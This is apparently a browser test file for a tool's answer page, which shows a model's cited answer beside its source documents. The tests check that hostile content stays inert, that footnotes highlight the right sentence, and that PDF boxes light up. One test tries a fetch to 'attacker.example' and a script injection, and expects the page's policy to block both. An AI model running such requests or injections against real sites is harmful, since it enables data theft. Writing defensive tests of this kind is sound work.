// The page of an answer in a real browser: a click lights the sentence up, and nothing of a document runs or is fetched.
import { writeFile } from 'node:fs/promises';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { findPassages, readDocument } from '../../src/documents/index.ts';
import { answerPage } from '../../src/report/index.ts';
import { Browser, browserPath } from '../support/browser.ts';
import { hostileAnswer } from '../support/hostile-answer.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';

const path = browserPath();
if (path === null) console.warn('No Chromium here: the page of an answer is not tried in a browser.');

const folder = await temporaryFolder();
const file = await hostileAnswer();
let browser: Browser | undefined;
beforeAll(async () => {
  const page = folder.file('answer.html');
  await writeFile(page, answerPage(file));
  if (path === null) return;
  browser = await Browser.open(path);
  await browser.open(pathToFileURL(page).href);
}, 60_000);
afterAll(async () => {
  await browser?.[Symbol.asyncDispose]();
  await folder[Symbol.asyncDispose]();
});

const inBrowser = test.skipIf(path === null);
const evaluate = <Value>(expression: string): Promise<Value> => {
  if (browser === undefined) throw new Error('no browser');
  return browser.evaluate<Value>(expression);
};

inBrowser(
  'the text of document, question and model is text: no element, no attribute, no title comes of it',
  async () => {
    const { question } = file.answer;
    expect(await evaluate('document.title')).toBe(question);
    expect(await evaluate('document.querySelectorAll("script, img, svg, iframe, link, object").length')).toBe(
      0,
    );
    const attributes = await evaluate<string[]>(
      '[...new Set([...document.body.querySelectorAll("*")].flatMap((each) => each.getAttributeNames()))].sort()',
    );
    expect(attributes).toEqual(['aria-label', 'class', 'dir', 'href', 'id']);
    const hrefs = await evaluate<string[]>('[...document.links].map((each) => each.getAttribute("href"))');
    expect(hrefs.length).toBeGreaterThan(0);
    for (const href of hrefs) expect(href).toMatch(/^#c\d+$/);
  },
);

inBrowser('nothing is asked for but the page itself', async () => {
  expect(browser?.requests.filter((url) => !url.startsWith('file:'))).toEqual([]);
  // Were there a way in, the policy would still forbid it.
  const tried = 'fetch("http://attacker.example/").then(() => "fetched", () => "refused")';
  expect(await evaluate(tried)).toBe('refused');
  const added =
    'new Promise((done) => { const s = document.createElement("script"); s.textContent = "document.title = 1"; document.body.append(s); s.remove(); setTimeout(() => done(document.title), 50) })';
  expect(await evaluate(added)).toBe(file.answer.question);
});

inBrowser('a click on a footnote lights its sentence up, and no other, and brings it into view', async () => {
  const statements = file.answer.answer.length;
  for (let number = 1; number <= statements; number += 1) {
    const lit = await evaluate<string[]>(`(() => {
      document.querySelector('main .answer a[href="#c${number}"]').click();
      return [...document.querySelectorAll('section mark')]
        .filter((each) => getComputedStyle(each).backgroundColor === 'rgb(255, 216, 77)')
        .map((each) => each.textContent);
    })()`);
    const quote = file.answer.answer[number - 1]?.citations[0]?.quote ?? '';
    expect(lit).toHaveLength(1);
    expect(lit[0]?.replaceAll('\ufffd', '')).toBe(quote.replaceAll(/[\u202a-\u202e]/g, ''));
    const inView = `(() => { const { top, bottom } = document.querySelector('#c${number}').getBoundingClientRect(); return top >= 0 && bottom <= innerHeight })()`;
    expect(await evaluate(inView)).toBe(true);
  }
});

inBrowser('the source is the document to the letter, and what is not supported is marked', async () => {
  const [document] = file.documents;
  const shown = await evaluate<string>(
    'document.querySelector(".text").textContent.replace(/\\[\\d+\\]/gu, "")',
  );
  expect(shown.replaceAll('\ufffd', '')).toBe(document?.text.replaceAll(/[\u202a-\u202e]|\[\d+\]/gu, ''));
  expect(await evaluate('document.querySelector(".not-supported").textContent')).toContain('99 euros');
  expect(await evaluate('document.querySelector(".doubt").textContent')).toContain('99');
});

inBrowser(
  'a page of a PDF on which something is cited is drawn, and its box lights up with the footnote',
  async () => {
    const lease = await readDocument({
      path: fileURLToPath(new URL('../../samples/lease.pdf', import.meta.url)),
    });
    const passages = findPassages([lease], 'How high is the deposit?');
    const answer = { ...file.answer, question: 'How high is the deposit?', answer: [], passages };
    const page = folder.file('pdf.html');
    await writeFile(page, answerPage({ answer, documents: [lease] }));
    await browser?.open(pathToFileURL(page).href);
    const lit = await evaluate<string[]>(`(() => {
    document.querySelector('main a[href="#c1"]').click();
    return [...document.querySelectorAll('rect')].map((each) => each.classList.contains('s1') + ' ' + getComputedStyle(each).fill);
  })()`);
    expect(lit.length).toBeGreaterThan(0);
    expect(lit.filter((each) => each.startsWith('true')).length).toBe(passages[0]?.boxes.length);
    expect(lit.every((each) => each.startsWith('true') === each.endsWith('rgb(255, 216, 77)'))).toBe(true);
    const drawn = await evaluate<number>('document.querySelector("svg text").getBoundingClientRect().width');
    expect(drawn).toBeGreaterThan(10);
    expect(browser?.requests.filter((url) => !url.startsWith('file:'))).toEqual([]);
  },
);
